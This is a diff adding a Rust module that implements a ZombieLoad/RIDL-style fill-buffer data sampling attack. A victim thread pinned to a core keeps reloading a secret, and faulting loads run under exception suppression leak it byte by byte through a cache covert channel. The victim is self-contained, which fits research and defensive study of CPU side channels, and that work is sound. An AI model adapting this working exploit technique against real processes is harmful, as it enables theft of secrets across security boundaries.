@@ -0,0 +1,223 @@
+//! Microarchitectural data sampling through the line fill buffers, as in
+//! ZombieLoad and RIDL. A load that faults, or aborts a TSX transaction, may
+//! be handed whatever the fill buffer entry it was matched against holds,
+//! before the fault is raised. That is data some other load on the same
+//! physical core brought in, at the same offset in its line as the faulting
+//! load's address.
+//!
+//! Sampling like that sees every line passing through the fill buffers, so
+//! a byte only counts if it arrived together with a byte already known. The
+//! victim here keeps reloading a line that starts with a known prefix, and
+//! each byte after it is leaked in a load that also covers the byte before,
+//! encoding only samples whose first byte matches what was already leaked.
+
+use libc;
+use std::io;
+use std::ptr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::thread::{self, JoinHandle};
+
+use cache::flush;
+use channel::Channel;
+use covert::CovertChannel;
+use cpu;
+use probe_buf::ProbeBuffer;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+use PAGE_SIZE;
+
+// samples voted on per byte, each decoded from TIMINGS_PER_GUESS faulting
+// loads. most samples are of other data and get filtered out, so it takes
+// more of them than a Meltdown read does
+const ROUNDS: usize = 64;
+
+const LINE_SIZE: usize = 64;
+
+/// The byte the victim's line starts with, which the leak starts from.
+pub const PREFIX: u8 = 0xa5;
+
+/// The longest secret that fits in the victim's line after `PREFIX`.
+pub const MAX_SECRET_LEN: usize = LINE_SIZE - 1;
+
+// keeps the line at line going through the fill buffers, by flushing it and
+// loading every word of it again, until stop is set
+fn run_victim(line: usize, stop: &AtomicBool) {
+    let line = line as *const u8;
+    while !stop.load(Ordering::Relaxed) {
+        unsafe {
+            flush(line);
+            for word in 0..LINE_SIZE / 8 {
+                (line as *const u64).add(word).read_volatile();
+            }
+        }
+    }
+}
+
+/// Leaks a secret another thread keeps loading, by sampling the line fill
+/// buffers of the core both of them run on with faulting loads.
+pub struct FillBufferSampler<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+    // a page with no access, which every sampling load faults on
+    faulting: *const u8,
+    // the victim's line, `PREFIX` followed by the secret
+    victim_line: ProbeBuffer,
+    stop: Arc<AtomicBool>,
+    victim: Option<JoinHandle<()>>,
+    len: usize,
+}
+
+impl FillBufferSampler {
+    /// Creates a sampler using the best suppression strategy this CPU
+    /// supports.
+    pub fn new(secret: &[u8], victim_core: usize) -> io::Result<FillBufferSampler> {
+        FillBufferSampler::with_suppressor(Suppression::detect(), secret, victim_core)
+    }
+}
+
+impl<S: ExceptionSuppressor> FillBufferSampler<S> {
+    /// Starts a victim thread pinned to `victim_core` that keeps loading
+    /// `secret`, prepares the given fault suppressor, and calibrates the
+    /// cache hit threshold. The calling thread has to run on a hyperthread
+    /// sibling of `victim_core` for anything to leak.
+    pub fn with_suppressor(
+        suppressor: S,
+        secret: &[u8],
+        victim_core: usize,
+    ) -> io::Result<FillBufferSampler<S>> {
+        if secret.len() > MAX_SECRET_LEN {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                format!("the secret has to fit in {} bytes", MAX_SECRET_LEN),
+            ));
+        }
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+
+        let victim_line = ProbeBuffer::private(PAGE_SIZE, false)?;
+        unsafe {
+            let line = victim_line.as_ptr() as *mut u8;
+            *line = PREFIX;
+            ptr::copy_nonoverlapping(secret.as_ptr(), line.add(1), secret.len());
+        }
+
+        let faulting = unsafe {
+            libc::mmap(
+                ptr::null_mut(),
+                PAGE_SIZE,
+                libc::PROT_NONE,
+                libc::MAP_PRIVATE | libc::MAP_ANONYMOUS,
+                -1,
+                0,
+            )
+        };
+        if faulting == libc::MAP_FAILED {
+            return Err(io::Error::last_os_error());
+        }
+        let stop = Arc::new(AtomicBool::new(false));
+        let victim = {
+            let stop = stop.clone();
+            let line = victim_line.as_ptr() as usize;
+            thread::spawn(move || {
+                if cpu::pin_to_core(victim_core).is_ok() {
+                    run_victim(line, &stop)
+                }
+            })
+        };
+
+        Ok(FillBufferSampler {
+            suppressor,
+            receiver,
+            faulting: faulting as *const u8,
+            victim_line,
+            stop,
+            victim: Some(victim),
+            len: secret.len(),
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// The address of the secret in the victim's line.
+    pub fn secret_addr(&self) -> *const u8 {
+        self.victim_line.as_ptr().wrapping_add(1)
+    }
+
+    /// Leaks the byte at `offset` into the victim's line, which has to be at
+    /// least 1, from samples whose byte before it is `previous`.
+    pub fn guess_after(&self, offset: usize, previous: u8) -> ByteGuess {
+        assert!(offset >= 1 && offset < LINE_SIZE);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        // the page offset picks the offset into whichever line is sampled
+        let sample = self.faulting.wrapping_add(offset - 1) as *const u16;
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    {
+                        let channel = &channel;
+                        // samples of other data go to the second lane, which
+                        // is never probed, so the filter doesn't branch
+                        self.suppressor.suppress(#[inline(always)]
+                        || {
+                            let pair = sample.read_volatile();
+                            let lane = (pair as u8 != previous) as usize;
+                            channel.encode(lane, (pair >> 8) as u8)
+                        });
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks the secret one byte at a time, each filtered on the one leaked
+    /// before it, starting from `PREFIX`. Once a byte doesn't leak, neither
+    /// can any after it.
+    pub fn guess_secret(&self) -> Vec<ByteGuess> {
+        let mut result = Vec::with_capacity(self.len);
+        let mut previous = Some(PREFIX);
+        for offset in 1..self.len + 1 {
+            let guess = match previous {
+                Some(previous) => self.guess_after(offset, previous),
+                None => ByteGuess {
+                    value: None,
+                    hits: 0,
+                    rounds: 0,
+                },
+            };
+            previous = guess.value;
+            result.push(guess);
+        }
+        result
+    }
+}
+
+impl<S: ExceptionSuppressor> Drop for FillBufferSampler<S> {
+    // the victim has to stop loading its line before the line is unmapped
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        if let Some(victim) = self.victim.take() {
+            let _ = victim.join();
+        }
+        unsafe { libc::munmap(self.faulting as *mut libc::c_void, PAGE_SIZE) };
+    }
+}